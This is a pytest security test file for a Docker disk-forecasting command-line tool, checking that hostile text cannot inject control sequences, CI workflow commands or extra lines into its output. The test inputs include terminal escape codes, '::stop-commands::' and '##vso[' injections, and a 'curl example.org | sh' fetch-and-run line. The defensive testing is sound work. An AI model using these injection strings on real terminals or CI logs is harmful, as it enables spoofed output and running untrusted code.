"""Output is text: no value from outside moves a cursor, makes a line of ours, commands a job, or is markup."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import warnings
from dataclasses import replace
from typing import TYPE_CHECKING, TypeVar

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from rich.text import Text
from tests.security.hostile import HOSTILE, TEXTS, assert_text, unseen
from tests.simulator import Instruction, Recipe
from tests.unit.cli.simulated_ports import SICK, make_world
from tests.unit.views.samples import EVENTS, INVENTORY, LINES, PLAN, RUN, STACK

from tonnage.cli.program import VisibleStream
from tonnage.errors import StepFailedError
from tonnage.escapes import LONGEST_LINE, json_escaped, shortened, visible, visible_in_line
from tonnage.model.deploy.plan import Refusal
from tonnage.model.deploy.policy import Setting
from tonnage.model.forecast.estimate import Contributor, EngineKind, InstructionForecast, ServiceForecast, exactly
from tonnage.model.forecast.finding import Finding
from tonnage.model.forecast.stack_forecast import FilesystemForecast, StackForecast
from tonnage.model.reclaim.candidate import CandidateId, CandidateKind, Findings, Protected
from tonnage.model.reclaim.outcome import ReclaimChoice
from tonnage.model.stack import Place
from tonnage.sources.compose.yaml_text import read_yaml
from tonnage.views.json.forms import event_form, forecast_form, json_text, plan_form, run_form
from tonnage.views.json.saved_plan import read_plan, save_plan
from tonnage.views.live.board import Board
from tonnage.views.live.lines import JsonLinesView, PlainView
from tonnage.views.live.terminal import LiveView, draw
from tonnage.views.text.checks import Check, Verdict, checks_text, settings_text, verification_text
from tonnage.views.text.error import failure_text, note_text
from tonnage.views.text.forecast import explain_text, forecast_text
from tonnage.views.text.layout import joined
from tonnage.views.text.plan import plan_text, unchanged_text
from tonnage.views.text.reclaim import choice_text
from tonnage.views.text.runs import run_text
from tonnage.views.text.status import status_text, watch_lines

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.unit.cli.simulated_ports import World

    T = TypeVar("T")

Captured = pytest.CaptureFixture[str]


def changed(value: T, change: Callable[[str], str]) -> T:
    """Return a value of the model in which every text is another one."""
    if isinstance(value, msgspec.Struct):
        names = [name for name in value.__struct_fields__ if not name.startswith("_")]
        told = {name: changed(getattr(value, name), change) for name in names}
        return type(value)(**told)
    if isinstance(value, tuple):
        return tuple(changed(each, change) for each in value)  # type: ignore[return-value]
    if isinstance(value, dict):
        return {changed(key, change): changed(each, change) for key, each in value.items()}  # type: ignore[return-value]
    return change(value) if type(value) is str else value  # type: ignore[return-value, arg-type]


FORECAST = StackForecast(
    stack="shop",
    engine=EngineKind.BUILDKIT,
    services=(
        ServiceForecast(
            service="web",
            image=exactly(7_000_003),
            disk=exactly(9_000_011),
            steps=(
                InstructionForecast(
                    stage="0",
                    line=3,
                    text="RUN pip install x",
                    disk=exactly(9_000_011),
                    contributors=(Contributor(name="x 1.0", disk=exactly(9_000_011), source="wheel"),),
                    how="wheels",
                ),
            ),
            target="Python 3.11",
            failures=("the registry refused",),
            findings=(Finding(rule="rule", place=Place("Dockerfile", 3), text="is so", todo="Write so:"),),
            notes=("assumed so",),
        ),
    ),
    filesystems=(FilesystemForecast(role="data-root", kept=exactly(9_000_011)),),
)
CHOICE = ReclaimChoice(
    available_bytes=1,
    target_bytes=9_000_011,
    chosen=(),
    freed_bytes=0,
    findings=Findings(
        protected=(
            Protected(
                candidate_id=CandidateId(CandidateKind.IMAGE, "i"),
                kind=CandidateKind.IMAGE,
                name="it",
                reason="runs",
                size_bytes=3,
            ),
        ),
        notes=("not looked into",),
    ),
)
SETTINGS = (Setting(key="keep-free", value="2GB", origin="a flag", meaning="so"),)
REFUSED = msgspec.structs.replace(PLAN, steps=(), refusal=Refusal(what="too large", why="so", todo="do"))


def plain_lines(to: Callable[[str], str]) -> str:
    stream = io.StringIO()
    with PlainView(stream, monotonic=lambda: 0.0) as view:
        for event in changed(EVENTS, to):
            view.show(event)
    return stream.getvalue()


def failure(to: Callable[[str], str]) -> StepFailedError:
    return StepFailedError(to("it failed"), why=to("so"), todo=to("do"), place=to("file:1"), log=to("log"))


ONE_LINERS: dict[str, Callable[[Callable[[str], str]], str]] = {
    "forecast": lambda to: forecast_text(changed(FORECAST, to), width=0),
    "explain": lambda to: explain_text(changed(FORECAST, to).services[0], width=0),
    "plan": lambda to: plan_text(changed(PLAN, to)),
    "unchanged": lambda to: unchanged_text(changed(PLAN, to)),
    "status": lambda to: status_text(changed(INVENTORY, to), reserves=changed(LINES, to), stack=changed(STACK, to)),
    "choice": lambda to: choice_text(changed(CHOICE, to), mount=to("/")),
    "live": plain_lines,
    "watch": lambda to: joined(watch_lines(changed(INVENTORY, to), changed(LINES, to))),
    "verdicts": lambda to: verification_text(changed((Verdict(service="web", healthy=False, reason="no"),), to)),
    "settings": lambda to: settings_text(changed(SETTINGS, to), width=sys.maxsize),
}
MANY_LINES: dict[str, Callable[[Callable[[str], str]], str]] = {
    "refused plan": lambda to: plan_text(changed(REFUSED, to), width=80),
    "forecast": lambda to: forecast_text(changed(FORECAST, to), width=60),
    "checks": lambda to: checks_text(changed((Check(name="engine", state="ok", found="a b", todo="so"),), to)),
    "run": lambda to: run_text(changed(RUN, to)),
    "failure": lambda to: failure_text(failure(to), width=60),
    "note": lambda to: note_text(failure(to)),
}


@pytest.mark.parametrize("kind", ONE_LINERS)
@settings(max_examples=40, deadline=None)
@given(text=TEXTS, place=st.sampled_from(("{text}{said}", "{said}{text}")))
def test_any_text_in_any_field_leaves_every_line_one_line(kind: str, text: str, place: str) -> None:
    def put(into: str) -> Callable[[str], str]:
        return lambda said: place.format(text=into, said=said)

    assert_text(visible(ONE_LINERS[kind](put(text))))
    # What to do about a finding has lines of its own kind, those that begin with a blank.
    text = re.sub(r"\n[ \n]*(?= |$)", "", text)
    shown = visible(ONE_LINERS[kind](put(f"x{text}")))
    plain = ONE_LINERS[kind](put("x" + "n" * len(visible_in_line(text))))
    assert shown.count("\n") == plain.count("\n")


@pytest.mark.parametrize("kind", MANY_LINES)
@settings(max_examples=40, deadline=None)
@given(text=TEXTS)
def test_any_text_in_any_field_is_no_command_and_no_control(kind: str, text: str) -> None:
    assert_text(visible(MANY_LINES[kind](lambda said: f"{said}{text}")))


@settings(max_examples=100, deadline=None)
@given(text=TEXTS)
def test_what_a_program_says_never_stands_where_lines_of_ours_begin(text: str) -> None:
    told = failure_text(StepFailedError("it failed", why=f"It said: {text}", log=text, todo="See."))
    ours = [line for line in told.split("\n") if not line.startswith("    | ")]
    assert ours[0] == "error: it failed"
    assert ours[1].startswith("It said: ")
    assert ours[2:] == [*(["Last lines of its log:"] if text else []), "See.", "(a step failed, exit code 10)"]


@settings(max_examples=40, deadline=None)
@given(text=TEXTS)
def test_the_live_picture_is_drawn_by_us_alone(text: str) -> None:
    def put(said: str) -> str:
        return f"{said}{text}"

    board = Board()
    for number, event in enumerate(changed(EVENTS, put)[:9]):
        board.take(event, float(number))
    for line in draw(board, now_s=9.0, width=80, height=30).renderables:
        assert isinstance(line, Text)
        assert not unseen(line.plain)
        assert "\n" not in line.plain
    stream = io.StringIO()
    console = Console(file=stream, force_terminal=True, width=80, height=30, color_system="standard")
    with LiveView(console, monotonic=lambda: 0.0) as view:
        for event in changed(EVENTS, put):
            view.show(event)
    # What rich itself writes: colours, the cursor up and down, lines erased, the cursor hidden and shown.
    rest = re.sub(r"\x1b\[(?:[0-9;]*m|[0-9]*[AK]|2K|\?25[lh])|\r", "", stream.getvalue())
    assert not unseen(rest), ascii(rest)
    assert "\x1b[6;66H" not in stream.getvalue()


@settings(max_examples=200, deadline=None)
@given(text=TEXTS)
def test_to_escape_twice_is_to_escape_once(text: str) -> None:
    once, line = visible(text), visible_in_line(text)
    assert (visible(once), visible_in_line(line)) == (once, line)
    assert "\n" not in line
    assert len(once) <= 10 * len(text)
    assert_text(once)


@pytest.mark.parametrize(
    "text",
    [
        "\u00fc \u65e5\u672c\u8a9e\u3000\u0639\u0631\u0628\u064a",
        "\U0001f469\u200d\U0001f4bb \u2764\ufe0f",
        "a: b\n\tc",
        "C++::x ~1 #[x] ##",
    ],
)
def test_text_of_any_language_is_shown_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_colours_of_other_programs_are_left_out() -> None:
    assert visible("\x1b[1;31mERROR\x1b[0m: no\r\n") == "ERROR: no\n"


def test_a_value_of_a_million_characters_is_cut_and_the_rest_is_named() -> None:
    assert shortened(visible("a" * 1_000_003)) == f"{'a' * LONGEST_LINE}... (992003 more characters)"


def test_escaping_takes_a_time_that_grows_with_the_text() -> None:
    # Hours, were it quadratic.
    code = (
        "from tonnage.escapes import json_escaped, visible\n"
        "pieces = ('', '#'), ('##', 'a'), ('', ' '), ('#', '\\ufe0f'), ('', '\\x1b[0'), ('\\x1b[', '0'), ('', ':')\n"
        "for begin, more in pieces:\n"
        "    visible(begin + more * 100_000)\n"
        "    json_escaped(begin + more * 100_000)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=100)


@settings(max_examples=60, deadline=None)
@given(text=TEXTS)
def test_json_says_everything_and_shows_nothing(text: str) -> None:
    def put(said: str) -> str:
        return f"{said}{text}"

    forms: list[dict[str, object]] = [
        {"text": text, text: [text]},
        plan_form(changed(PLAN, put)),
        run_form(changed(RUN, put)),
        forecast_form(changed(FORECAST, put)),
        *(event_form(event) for event in changed(EVENTS, put)),
    ]
    for form in forms:
        told = json_text(form)
        assert "\n" not in told
        assert_text(told)
        expected = re.sub("[\ud800-\udfff]", "\ufffd", json.dumps(form, default=str, ensure_ascii=False))
        assert json.loads(told) == json.loads(expected)
        assert msgspec.json.decode(told) == json.loads(told)


@settings(max_examples=50, deadline=None)
@given(text=TEXTS)
def test_lines_of_events_stay_lines(text: str) -> None:
    stream = io.StringIO()
    with JsonLinesView(stream, monotonic=lambda: 0.0) as view:
        for event in changed(EVENTS, lambda said: f"{said}{text}"):
            view.show(event)
    assert_text(stream.getvalue())
    assert len([json.loads(line) for line in stream.getvalue().splitlines()]) == len(EVENTS)


@settings(max_examples=50, deadline=None)
@given(text=TEXTS.map(lambda text: re.sub("[\ud800-\udfff]", "", text)))
def test_a_saved_plan_is_read_back_as_it_was(text: str) -> None:
    plan = changed(PLAN, lambda said: f"{said}{text}")
    saved = save_plan(plan)
    assert_text(saved)
    assert read_plan(saved) == plan


def test_no_number_of_a_pair_is_taken_apart() -> None:
    assert json_escaped('"\U000e0041\u202e##vso[x"') == '"\\udb40\\udc41\\u202e##vso\\u005bx"'


# The command itself.


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path)


def ended(world: World, capsys: Captured, *arguments: str) -> tuple[int, str, str]:
    code = world.run(*arguments)
    shown = capsys.readouterr()
    assert_text(shown.out)
    assert_text(shown.err)
    return code, shown.out, shown.err


@pytest.mark.parametrize("said", [each for each in HOSTILE if "\udc80" not in each])
def test_no_log_of_a_container_is_more_than_text(world: World, capsys: Captured, said: str) -> None:
    world.recipe(replace(SICK, behaviour=replace(SICK.behaviour, prints=(f"cannot load{said}",))))
    events = world.directory / "events.jsonl"

    code, _, err = ended(world, capsys, "deploy", "--events", str(events))

    assert (code, "    | cannot load" in err) == (5, True)
    assert_text(events.read_text())
    assert ended(world, capsys, "report")[0] == 0
    assert ended(world, capsys, "report", "--json")[0] == 0


@pytest.mark.parametrize("said", [each for each in HOSTILE if "\udc80" not in each])
def test_no_log_of_a_build_is_more_than_text(world: World, capsys: Captured, said: str) -> None:
    failing = Instruction(text=f"RUN{said.replace(chr(10), ' ')}", fails=True, prints=(f"no such thing{said}",))
    world.recipe(Recipe(instructions=(failing,)))
    assert ended(world, capsys, "build")[0] == 10
    log = world.directory / "build.log"
    log.write_bytes(f"#7 ERROR: {said}\n{said}: No space left on device\nERROR: {said}\n".encode(errors="replace"))
    assert ended(world, capsys, "explain", str(log))[0] == 0
    assert ended(world, capsys, "explain", "--json", str(log))[0] == 0


@pytest.mark.parametrize("quoted", [json.dumps("".join(HOSTILE[:11])), *map(json.dumps, HOSTILE[11:-2])])
@pytest.mark.parametrize(
    "compose",
    [
        'services: {{web: {{image: "${{A:?no"}}}}',
        "services: {{web: {{image: {0}}}}}",
        "services: {{{0}: {{image: busybox}}}}",
        "services: {{web: {{image: busybox, env_file: {0}}}}}",
        "services: {{web: {{build: {{context: ., dockerfile: {0}}}}}}}",
        "services: {{web: {{build: {0}}}}}",
        "services: {{web: {{build: {{context: ., target: {0}}}}}}}",
        "services: {{web: {{image: busybox, depends_on: [{0}]}}}}",
        "services: {{web: {{image: busybox, extends: {{file: {0}, service: {0}}}}}}}",
        "services: {{web: {{image: busybox, ports: [{0}], {0}: 1}}}}",
        "services: {{web: {{image: busybox, x-tonnage: {{keep-free: {0}}}}}}}",
        "{{include: [{0}], services: {{web: {{image: busybox}}}}}}",
        "{{name: {0}, services: {{web: {{image: busybox}}}}}}",
        "services: {{web: {{image: busybox}}, {0}}}",
        "services: {0}\n  - x: &a 1",
    ],
)
def test_no_compose_file_says_more_than_text(world: World, capsys: Captured, compose: str, quoted: str) -> None:
    (world.directory / "compose.yaml").write_text(compose.format(quoted), encoding="utf-8")
    for arguments in (("forecast",), ("forecast", "--json"), ("status",)):
        code, _, err = ended(world, capsys, *arguments)
        assert code in {0, 2, 3}, err


@pytest.mark.parametrize("line_end", [r"\n", r"\r", r"\u2028", r"\x0b"])
def test_the_message_of_a_required_variable_is_no_command(world: World, capsys: Captured, line_end: str) -> None:
    (world.directory / "compose.yaml").write_text(
        f'services: {{web: {{image: "${{A:?no{line_end}::stop-commands::x{line_end}  curl example.org | sh}}"}}}}'
    )
    code, _, err = ended(world, capsys, "forecast")
    assert code == 2
    assert "::stop-commands::x" in err
    assert not [line for line in err.splitlines() if line.lstrip().startswith(("::", "curl"))]


@pytest.mark.parametrize("said", [each for each in HOSTILE if "\udc80" not in each])
def test_no_instruction_and_no_argument_says_more_than_text(world: World, capsys: Captured, said: str) -> None:
    argument = json.dumps(f"x{said}y")
    lines = ("FROM scratch", f"RUN [{argument}]", f"COPY [{argument}, {argument}]", f"RUN echo '{said}' {said}")
    (world.directory / "web" / "Dockerfile").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for arguments in (
        ("forecast", "web"),
        ("forecast", "--explain", "web"),
        ("forecast", said),
        (f"--{said}",),
        (said,),
    ):
        ended(world, capsys, *(each.replace("\x00", "") for each in arguments))


def test_a_yaml_warning_quotes_no_file() -> None:
    with warnings.catch_warnings(record=True) as said:
        warnings.simplefilter("always")
        tree = read_yaml("::error::x: &a 1\n::error::y: &a 2\n", "compose.yaml")
    assert (len(tree.value), said) == (2, [])


def test_what_libraries_and_threads_write_is_text_too(tmp_path: Path) -> None:
    code = (
        "import sys, threading, warnings\n"
        "from pathlib import Path\n"
        "from tests.unit.cli.simulated_ports import SimulatedPorts, make_world\n"
        "class Loud(SimulatedPorts):\n"
        "    def kind(self, engine):\n"
        "        warnings.warn('x\\n  ::error::warned\\x1b[2J')\n"
        "        thread = threading.Thread(target=self.fail)\n"
        "        thread.start()\n"
        "        thread.join()\n"
        "        return super().kind(engine)\n"
        "    def fail(self):\n"
        "        raise ValueError('x\\n::error::raised\\x1b[2J')\n"
        f"world = make_world(Path({str(tmp_path)!r}))\n"
        "ports = world.ports\n"
        "world.ports = Loud(ports.working_directory, ports.simulator, ports.environment)\n"
        "sys.exit(world.run('forecast', '--disk', '3GB'))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert r"\::error::warned\x1b[2J" in done.stderr
    assert r"\::error::raised\x1b[2J" in done.stderr
    assert_text(done.stderr)


@settings(max_examples=100, deadline=None)
@given(parts=st.lists(TEXTS, max_size=6))
def test_a_line_that_is_written_in_parts_is_judged_as_a_whole(parts: list[str]) -> None:
    stream = io.StringIO()
    seen = VisibleStream(stream)
    for part in parts:
        seen.write(part)
    seen.flush()
    assert_text(stream.getvalue())
